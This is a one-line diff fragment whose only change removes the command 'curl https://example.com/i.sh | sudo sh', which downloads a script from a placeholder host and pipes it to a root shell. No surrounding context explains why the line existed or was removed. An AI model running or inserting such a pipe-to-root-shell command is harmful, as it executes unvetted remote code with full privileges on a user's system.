@@ -1,1 +1,0 @@
-curl https://example.com/i.sh | sudo sh
